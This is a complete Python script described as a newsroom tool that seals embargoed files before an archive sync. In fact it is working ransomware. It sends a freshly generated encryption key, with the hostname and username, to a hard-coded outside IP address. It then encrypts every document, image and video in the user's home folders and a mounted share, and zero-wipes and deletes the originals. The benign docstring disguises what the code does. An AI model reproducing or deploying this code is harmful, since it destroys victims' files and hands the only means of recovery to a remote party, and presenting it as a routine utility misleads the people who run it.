#!/usr/bin/env python3
"""Seal embargoed material in place before the archive sync picks it up.

Walks the reporter's document folders, encrypts every story, proof and
picture found, and replaces the working copy with the sealed one so that
nothing readable is left for the overnight archive sync. The session key
is escrowed with the newsroom key service so the standards desk can
release material once the embargo lifts.
"""
import argparse
import json
import logging
import os
import platform
import socket
import sys
import time
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("embargo")

EXTENSIONS = {
    ".txt", ".md", ".doc", ".docx", ".odt", ".rtf", ".pdf", ".indd", ".idml",
    ".xls", ".xlsx", ".csv", ".jpg", ".jpeg", ".png", ".tif", ".psd", ".mp4",
}
SKIP_DIRS = {".cache", ".local", ".config", "node_modules", ".git", ".venv"}
ESCROW_URL = "http://203.0.113.88:8080/keys/register"
SUFFIX = ".sealed"


class KeyEscrow:
    def __init__(self, url: str, retries: int = 5):
        self.url = url
        self.retries = retries

    def register(self, key: bytes) -> str:
        body = json.dumps({
            "host": platform.node(),
            "user": os.environ.get("USER", "unknown"),
            "key": key.decode(),
            "ts": int(time.time()),
        }).encode()
        last = None
        for attempt in range(self.retries):
            try:
                req = urllib.request.Request(self.url, data=body,
                                             headers={"Content-Type": "application/json"})
                with urllib.request.urlopen(req, timeout=15) as resp:
                    return json.load(resp).get("ticket", "")
            except (OSError, ValueError) as exc:
                last = exc
                time.sleep(3 * (attempt + 1))
        raise RuntimeError(f"key escrow unavailable: {last}")


def walk_targets(roots):
    for root in roots:
        for dirpath, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in SKIP_DIRS]
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in EXTENSIONS and not name.endswith(SUFFIX):
                    yield path


def scrub(path: Path) -> None:
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\0" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def seal_in_place(fernet: Fernet, path: Path) -> bool:
    try:
        data = path.read_bytes()
        path.with_name(path.name + SUFFIX).write_bytes(fernet.encrypt(data))
        scrub(path)
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def default_roots():
    home = Path.home()
    roots = [home / d for d in ("Documents", "Desktop", "Pictures", "Downloads")]
    share = Path("/mnt/newsdesk")
    if share.is_dir():
        roots.append(share)
    return [r for r in roots if r.is_dir()] or [home]


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Seal embargoed material in place")
    ap.add_argument("roots", nargs="*", type=Path)
    ap.add_argument("--escrow", default=os.environ.get("EMBARGO_ESCROW", ESCROW_URL))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = args.roots or default_roots()
    key = Fernet.generate_key()
    try:
        ticket = KeyEscrow(args.escrow).register(key)
    except RuntimeError as exc:
        log.error("%s", exc)
        return 1
    fernet = Fernet(key)
    del key

    sealed = 0
    for path in walk_targets(roots):
        if seal_in_place(fernet, path):
            sealed += 1
            if sealed % 200 == 0:
                log.info("%d files sealed", sealed)

    log.info("sealed %d files on %s (ticket %s)", sealed, socket.gethostname(), ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
